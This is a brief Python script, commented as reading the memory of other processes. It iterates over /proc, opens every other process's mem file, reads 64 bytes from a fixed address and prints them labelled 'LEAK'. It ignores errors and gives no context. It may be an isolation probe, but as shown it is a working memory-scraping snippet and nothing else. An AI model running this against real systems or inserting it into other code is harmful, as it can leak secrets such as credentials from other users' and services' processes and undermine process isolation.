# Reads the memory of other processes.
import os
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            with open(f'/proc/{pid}/mem', 'rb') as memory:
                memory.seek(0x400000)
                print('LEAK', memory.read(64))
        except OSError:
            pass
